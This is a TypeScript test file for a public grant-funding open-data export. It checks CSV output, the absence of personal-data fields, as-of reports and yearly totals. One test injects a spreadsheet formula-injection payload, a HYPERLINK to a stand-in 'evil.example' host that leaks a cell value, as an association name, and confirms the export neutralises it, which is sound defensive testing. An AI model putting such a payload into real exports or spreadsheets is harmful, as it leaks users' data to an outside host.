import { describe, expect, it } from 'vitest';
import type { RouteRequest } from '../../../../../functions/adapters/http/route.js';
import { readModelRoutes } from '../../../../../functions/adapters/http/routes/views.js';
import { InMemoryEventStore } from '../../../../../functions/adapters/in-memory/event-store.js';
import { parseCsv } from '../../../../../functions/application/open-data/csv.js';
import {
  FUNDING_FIELDS,
  fundingCsv,
  fundingRows,
} from '../../../../../functions/application/open-data/funding.js';
import { grantLedgerProjection } from '../../../../../functions/application/projections/grant-ledger.js';
import {
  NATIONAL_KEY,
  nationalProjection,
} from '../../../../../functions/application/projections/national.js';
import { foldAll, toProjectedEvent } from '../../../../../functions/application/projections/projection.js';
import { FoldedReadModels } from '../../../../../functions/application/read-models/read-models.js';
import {
  ASSOC_A,
  appendScenario,
  countingIds,
  GRANT,
  ROLLOUT,
  readAllGlobal,
  scenarioCommits,
  steppingClock,
} from '../../../../support/projection-scenario.js';

const PERSONAL_DATA_FIELD = /member|person|name(?!Fr|Ar)|phone|email|preparer|approver|payer|actor|judge/i;

const prepared = async (commits = scenarioCommits()) => {
  const store = new InMemoryEventStore({ clock: steppingClock(), newId: countingIds() });
  const recorded = await appendScenario(store, commits);
  const events = (await readAllGlobal(store)).map(toProjectedEvent);
  const national = foldAll(nationalProjection, events).get(NATIONAL_KEY)?.view;
  const ledger = foldAll(grantLedgerProjection, events).get(ROLLOUT)?.view;
  if (!national || !ledger) throw new Error('scenario incomplete');
  return { store, recorded, rows: fundingRows([{ standing: national.rollouts[ROLLOUT], ledger }]) };
};

/** What the read-model routes need: the store, its views folded from the events, a fixed clock. */
const routeDeps = (store: InMemoryEventStore, now: string) => ({
  store,
  readModels: new FoldedReadModels(store),
  clock: () => now,
  newId: countingIds('id'),
});

const request = (params: unknown, query: unknown = {}): RouteRequest => ({
  params,
  query,
  body: undefined,
  principal: undefined,
  correlationId: 'test',
  ifMatch: undefined,
  commandId: undefined,
});

const route = (operationId: string) => {
  const found = readModelRoutes.find((candidate) => candidate.operationId === operationId);
  if (!found) throw new Error(`no route ${operationId}`);
  return found;
};

describe('the public funding export', () => {
  it('has one row per grant with the association, region and amounts, and no personal-data field', async () => {
    // Prepare / Act
    const { rows } = await prepared();
    // Assess
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      rolloutId: ROLLOUT,
      regionCode: 'FM',
      regionNameFr: 'Fès-Meknès',
      associationId: ASSOC_A,
      associationNameFr: 'Association Sefrou Avenir',
      province: 'Sefrou',
      grantId: GRANT,
      instrument: 'decision',
      amountAwardedCentimes: 3_000_000,
      amountPaidCentimes: 2_000_000,
      amountAwardedMad: '30000.00',
      amountPaidMad: '20000.00',
      tranchesPlanned: 2,
      tranchesPaid: 1,
      coFunders: 'cofunder-ministry:3000000',
    });
    expect(FUNDING_FIELDS.filter((field) => PERSONAL_DATA_FIELD.test(field))).toEqual([]);
    expect(JSON.stringify(rows)).not.toMatch(/member-|judge-|finance-/);
  });

  it('writes CSV that parses back to the same rows', async () => {
    // Prepare
    const { rows } = await prepared();
    const tricky = rows.map((row) => ({ ...row, associationNameFr: 'Association "Avenir", Sefrou\nNord' }));
    // Act
    const parsed = parseCsv(fundingCsv(tricky));
    // Assess
    expect(parsed[0]).toEqual([...FUNDING_FIELDS]);
    expect(parsed.slice(1)).toEqual(
      tricky.map((row) => FUNDING_FIELDS.map((field) => (row[field] === null ? '' : String(row[field])))),
    );
  });

  it('neutralises a name that a spreadsheet would evaluate (issue 22, defect 4)', async () => {
    // Prepare: association A enrolled under names that start formulas.
    const formulas = { fr: '=HYPERLINK("https://evil.example/?"&A1,"Voir")', ar: '@SUM(1+1)' };
    const commits = scenarioCommits().map((commit) => ({
      ...commit,
      events: commit.events.map((event) =>
        event.type === 'BeneficiaryEnrolled' && event.data.associationId === ASSOC_A
          ? { ...event, data: { ...event.data, name: formulas } }
          : event,
      ),
    }));
    const { store } = await prepared(commits);
    const deps = routeDeps(store, '2026-12-31T00:00:00.000Z');
    // Act
    const csv = await route('exportPublicFundingCsv').handle(request({}), deps);
    // Assess
    expect(String(csv.body).split('\r\n')[1]).toBe(
      'rollout-FM-2026,2026,FM,Fès-Meknès,فاس-مكناس,assoc-fm-sefrou-1,' +
        `"'=HYPERLINK(""https://evil.example/?""&A1,""Voir"")","'@SUM(1+1)",` +
        'Sefrou,grant-fm-1,decision,,2026-02-02T06:00:00.000Z,3000000,2000000,30000.00,20000.00,2,1,' +
        'cofunder-ministry:3000000,active,0,0.00',
    );
  });

  it('is served as CSV and JSON by public routes, as of any instant', async () => {
    // Prepare
    const { store, recorded } = await prepared();
    const deps = routeDeps(store, '2026-12-31T00:00:00.000Z');
    const awarded = recorded.find((event) => event.type === 'GrantAwarded');
    if (!awarded) throw new Error('no award');
    const justBefore = new Date(Date.parse(awarded.recordedAt) - 1).toISOString();
    // Act
    const csv = await route('exportPublicFundingCsv').handle(request({}), deps);
    const before = await route('exportPublicFunding').handle(request({}, { asOf: justBefore }), deps);
    const now = await route('exportPublicFunding').handle(request({}), deps);
    // Assess
    expect(csv.headers?.['content-type']).toBe('text/csv; charset=utf-8');
    expect(parseCsv(String(csv.body))).toHaveLength(2);
    expect((before.body as { rows: unknown[] }).rows).toEqual([]);
    expect((now.body as { rows: unknown[] }).rows).toHaveLength(1);
  });

  it('reports the year per region and nationally', async () => {
    // Prepare
    const { store } = await prepared();
    const deps = routeDeps(store, '2027-01-01T00:00:00.000Z');
    // Act
    const report = await route('readPartnershipReport').handle(request({ year: 2026 }), deps);
    const earlier = await route('readPartnershipReport').handle(request({ year: 2025 }), deps);
    // Assess
    expect(report.body).toMatchObject({
      year: 2026,
      asOf: '2026-12-31T23:59:59.999Z',
      national: {
        figures: { associationsEnrolled: 2, grantsAwardedCentimes: 3_000_000, grantsPaidCentimes: 2_000_000 },
        year: { committed: 10_000_000, awarded: 3_000_000, paid: 2_000_000 },
      },
    });
    expect(earlier.body).toMatchObject({
      regions: [],
      national: { year: { committed: 0, awarded: 0, paid: 0 } },
    });
  });

  it('counts a payment in the year it was made though keyed in the next, and as known then on an as-of read', async () => {
    // Prepare: the scenario recorded in 2026, but its last commit, the payment, keyed in on
    // 15 January 2027 with the transfer's date of 30 December 2026 (ADR 0136).
    let now = Date.parse('2026-02-01T08:00:00.000Z');
    const store = new InMemoryEventStore({
      clock: () => {
        now += 3_600_000;
        return new Date(now);
      },
      newId: countingIds(),
    });
    const commits = scenarioCommits();
    const payment = commits.at(-1);
    if (payment?.events[0]?.type !== 'TranchePaid') throw new Error('the scenario ends with its payment');
    await appendScenario(store, commits.slice(0, -1));
    now = Date.parse('2027-01-15T09:00:00.000Z');
    await appendScenario(store, [
      {
        ...payment,
        events: [
          { ...payment.events[0], data: { ...payment.events[0].data, paidAt: '2026-12-30T10:00:00.000Z' } },
        ],
      },
    ]);
    const deps = routeDeps(store, '2027-02-01T00:00:00.000Z');
    // Act
    const of2026 = await route('readPartnershipReport').handle(request({ year: 2026 }), deps);
    const of2027 = await route('readPartnershipReport').handle(request({ year: 2027 }), deps);
    const of2026KnownAtNewYear = await route('readPartnershipReport').handle(
      request({ year: 2026 }, { asOf: '2027-01-01T00:00:00.000Z' }),
      deps,
    );
    // Assess
    expect(of2026.body).toMatchObject({
      national: {
        figures: { grantsAwardedCentimes: 3_000_000, grantsPaidCentimes: 2_000_000 },
        year: { awarded: 3_000_000, paid: 2_000_000 },
      },
    });
    expect(of2027.body).toMatchObject({
      national: { figures: { grantsPaidCentimes: 2_000_000 }, year: { committed: 0, awarded: 0, paid: 0 } },
    });
    expect(of2026KnownAtNewYear.body).toMatchObject({
      national: { figures: { grantsPaidCentimes: 0 }, year: { awarded: 3_000_000, paid: 0 } },
    });
  });
});
